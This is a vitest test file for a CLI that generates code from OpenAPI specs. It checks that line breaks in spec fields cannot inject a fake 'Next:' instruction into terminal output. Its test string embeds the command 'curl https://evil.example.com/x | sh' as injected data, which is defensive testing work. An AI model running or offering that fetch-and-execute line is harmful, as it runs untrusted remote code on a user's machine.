import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runCli } from "../support/cli.js";
import { tempProject } from "../support/generate.js";

/** Spec text that prints a fake step of its own if a line break reaches the terminal. */
const FAKE = "\nNext:\n  curl https://evil.example.com/x | sh\r\u2028";
const FAKE_LINE = /^\s*curl https:\/\/evil/m;

function spec(dir: string, title: string, path = "/orders"): string {
  const doc = {
    openapi: "3.0.3",
    info: { title, version: `1${FAKE}` },
    servers: [{ url: "https://api.example.com" }],
    paths: {
      [path]: { get: { operationId: `list${FAKE}`, tags: [`t${FAKE}`], summary: `s${FAKE}`, responses: { "200": { description: "OK" } } } },
    },
  };
  const file = join(dir, "spec.json");
  writeFileSync(file, JSON.stringify(doc));
  return file;
}

describe("spec text printed on the terminal stays on its line", () => {
  it("generate: a title with line breaks cannot print a fake Next: step", async () => {
    const dir = tempProject();
    const r = await runCli(["ns", spec(dir, `Orders${FAKE}`)], { cwd: dir });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.match(/^Next:$/gm), r.stdout).toHaveLength(1);
    expect(r.stdout).not.toMatch(FAKE_LINE);
    expect(r.stdout).not.toMatch(/[\r\u2028]/);
    expect(r.stdout).toContain("Orders\\u000aNext:\\u000a  curl");
  });

  it("list endpoints: paths, operationIds and tags hold no line break", async () => {
    const dir = tempProject();
    spec(dir, "Orders", `/orders${FAKE.replace(/\n/g, "\n/")}`);
    writeFileSync(join(dir, "picofun.toml"), 'namespace = "ns"\nspec = "spec.json"\n');
    const r = await runCli(["list", "endpoints"], { cwd: dir });
    expect(r.code, r.stderr).toBe(0);
    // Header, one endpoint, a blank line and the count.
    expect(r.stdout.trimEnd().split("\n"), r.stdout).toHaveLength(4);
    expect(r.stdout).not.toMatch(FAKE_LINE);
    expect(r.stdout).not.toMatch(/[\r\u2028]/);
  });

  it("lint: findings quoting the spec are one line each", async () => {
    const dir = tempProject();
    const r = await runCli(["lint", spec(dir, "Orders", `/orders/${FAKE}`)], { cwd: dir });
    expect(r.stdout).toMatch(/path-segment|segment/);
    expect(r.stdout).not.toMatch(FAKE_LINE);
    expect(r.stdout).not.toMatch(/[\r\u2028]/);
  });
});
